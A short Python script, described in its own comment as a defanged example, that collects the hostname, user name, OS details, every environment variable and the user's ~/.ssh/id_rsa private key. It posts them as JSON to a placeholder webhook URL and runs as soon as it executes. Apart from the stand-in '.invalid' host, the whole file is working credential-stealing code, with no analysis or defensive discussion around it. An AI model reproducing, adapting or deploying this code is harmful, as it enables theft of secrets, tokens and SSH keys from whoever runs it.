# Defanged example: gathers secrets and sends them to a webhook.
import json
import os
import platform
import socket

import requests

WEBHOOK = "https://hooks.example.invalid/api/webhooks/000/placeholder"


def collect():
    info = {
        "host": socket.gethostname(),
        "user": os.getlogin(),
        "os": platform.platform(),
        "env": dict(os.environ),
    }
    key_path = os.path.expanduser("~/.ssh/id_rsa")
    if os.path.exists(key_path):
        with open(key_path) as handle:
            info["ssh"] = handle.read()
    return info


def send(info):
    requests.post(WEBHOOK, data=json.dumps(info), timeout=5)


send(collect())
